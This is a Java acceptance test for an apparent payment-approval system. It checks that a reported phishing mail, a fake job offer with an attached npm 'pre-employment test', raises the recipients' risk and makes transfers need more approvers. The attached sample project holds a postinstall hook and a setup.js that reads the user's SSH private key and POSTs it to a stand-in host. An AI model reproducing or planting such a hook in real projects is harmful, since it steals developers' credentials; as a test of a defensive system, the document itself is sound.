package dev.countersign.acceptance.company;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.acceptance.node.SafeRelease;
import dev.countersign.server.Connections;
import dev.countersign.server.visit.Mailbox;
import dev.countersign.visit.Visitor;
import jakarta.activation.DataHandler;
import jakarta.mail.Message.RecipientType;
import jakarta.mail.MessagingException;
import jakarta.mail.Session;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.util.ByteArrayDataSource;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * From a mail with a project attached to one more approval: it arrives by SMTP, whoever reported it
 * is answered, the case appears, security confirms it, the risk of its three recipients rises, and
 * a transfer that one of them requests needs one more approval.
 */
class LureTest {
  private static final List<String> RECIPIENTS = List.of("rea", "dan", "eli");

  private static final String POLICY =
      Policy.TWO_APPROVERS
          + """
            - name: one more pair of eyes for who met a lure
              when: { action: transfer, destination: known }
              if: requester.risk >= 20
              then: allow
              approvals: { approvers: 3 }
          """;

  @TempDir private Path folder;

  @Test
  void whatWasReportedByMailMakesATransferNeedOneMoreApproval() throws Exception {
    try (Mailbox mail = new Mailbox();
        Company company =
            Company.found(folder.resolve("data"), Clock.systemUTC(), connections(mail))) {
      company.complete(SafeRelease.V1_4_1, POLICY);
      company.invite("dan", "requester");
      company.invite("eli", "requester");
      company.invite("ann", "approver");
      String before = company.pay("dan", Company.SUPPLIER, "0.5");
      assertThat(company.page(before)).contains("Still missing: 2 of approvers");
      Company.told(
          company.person("dan").form(before + "/withdraw", Map.of("reason", "to be asked again")));

      report(company.server().reportPort());
      MimeMessage answer = mail.await("rea@example.com", "Your report: ", 1).getFirst();
      assertThat(Mailbox.header(answer, "Subject")).doesNotContain("Nothing found");
      assertThat(Mailbox.text(answer)).contains("What to do:", company.address() + "/reports/");
      assertThat(mail.find("evil.example", "")).as("nobody else is answered").isEmpty();

      Visitor sid = company.person("sid");
      String campaign = Company.group(sid.get("/lures").body(), "href=\"(/lures/[0-9a-f-]{36})\"");
      String page = sid.get(campaign).body();
      assertThat(page).contains("rea Example", "dan Example", "eli Example");
      assertThat(company.person("dan").get("/me").body()).contains("Nothing is known");

      Company.told(
          sid.form(
              campaign + "/dispose",
              Map.of("disposition", "lure", "words", "It would have taken your keys.")));
      mail.await("rea@example.com", "How your report ended: a lure", 1);
      for (String name : RECIPIENTS) {
        mail.await(name + "@example.com", "A message to you was an attack", 1);
        assertThat(company.person(name).get("/me").body())
            .contains("risk-number\">30<")
            .contains("need 3 of approvers until ", "one more pair of eyes for who met a lure");
      }
      assertThat(company.person("amy").get("/me").body()).contains("Nothing is known");

      String payment = company.pay("dan", Company.SUPPLIER, "1.5");
      assertThat(company.page(payment)).contains("Still missing: 3 of approvers");
      Company.told(company.approve("abe", payment));
      Company.told(company.approve("amy", payment));
      assertThat(company.state(payment)).isEqualTo("waiting");
      assertThat(company.page(payment)).contains("Still missing: 1 more of approvers");
      Company.told(company.approve("ann", payment));
      assertThat(company.state(payment)).isEqualTo("countersigned");

      assertThat(company.journal())
          .contains("report-received", "report-answered", "campaign-opened", "campaign-disposed")
          .contains("lure-met")
          .doesNotContain("pre-employment", "postinstall");
    }
  }

  private Connections connections(Mailbox mail) throws IOException {
    Path password = Files.writeString(folder.resolve("password"), mail.password() + "\n");
    return Connections.of(
        new Connections.Said(
            mail.url(),
            password,
            "Countersign <countersign@example.com>",
            null,
            null,
            null,
            null,
            null,
            null,
            null,
            "0"));
  }

  /** One of the recipients forwards it, as an attachment, to the mailbox for reports. */
  private static void report(int port) throws MessagingException, IOException {
    Properties settings = new Properties();
    settings.put("mail.smtp.host", "127.0.0.1");
    settings.put("mail.smtp.port", Integer.toString(port));
    Session session = Session.getInstance(settings);
    MimeMessage report = new MimeMessage(session);
    report.setFrom(new InternetAddress("rea@example.com", "rea Example"));
    report.setRecipients(RecipientType.TO, "reports@example.com");
    report.setSubject("Fwd: The pre-employment test");
    MimeMultipart parts = new MimeMultipart();
    MimeBodyPart words = new MimeBodyPart();
    words.setText("Why am I getting this?");
    parts.addBodyPart(words);
    MimeBodyPart inner = new MimeBodyPart();
    inner.setContent(lure(session), "message/rfc822");
    parts.addBodyPart(inner);
    report.setContent(parts);
    report.saveChanges();
    try (Transport transport = session.getTransport("smtp")) {
      transport.connect();
      transport.sendMessage(report, report.getAllRecipients());
    }
  }

  /** Written for this test; the project in it does nothing to anybody. */
  private static MimeMessage lure(Session session) throws MessagingException, IOException {
    MimeMessage message = new MimeMessage(session);
    message.setFrom(new InternetAddress("talent@evil.example", "Evelyn of Talent"));
    for (String name : RECIPIENTS) {
      message.addRecipients(RecipientType.TO, name + "@example.com");
    }
    message.setSubject("The pre-employment test");
    MimeMultipart parts = new MimeMultipart();
    MimeBodyPart words = new MimeBodyPart();
    words.setText(
        """
        Hi, I found your profile and your work on wallets is truly outstanding. We offer a fully
        remote role at 35,000 USD a month. As the first step, please unpack the attached
        pre-employment test, run npm install and npm start on your own computer within the next
        two hours, and send me a screenshot. Please keep this confidential.
        """);
    parts.addBodyPart(words);
    MimeBodyPart project = new MimeBodyPart();
    project.setFileName("test.zip");
    project.setDataHandler(new DataHandler(new ByteArrayDataSource(project(), "application/zip")));
    parts.addBodyPart(project);
    message.setContent(parts);
    message.saveChanges();
    return message;
  }

  private static byte[] project() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      add(
          zip,
          "test/package.json",
          """
          {"name": "wallet-test", "version": "1.0.0",
           "scripts": {"postinstall": "node setup.js", "start": "node index.js"}}
          """);
      add(
          zip,
          "test/setup.js",
          """
          const { readFileSync } = require("fs");
          const https = require("https");
          const key = readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8");
          const sent = https.request({ host: "192.0.2.1", method: "POST" });
          sent.end(key);
          """);
      add(zip, "test/index.js", "console.log('Welcome to the test');\n");
    }
    return bytes.toByteArray();
  }

  private static void add(ZipOutputStream zip, String name, String text) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(text.getBytes(StandardCharsets.UTF_8));
    zip.closeEntry();
  }
}
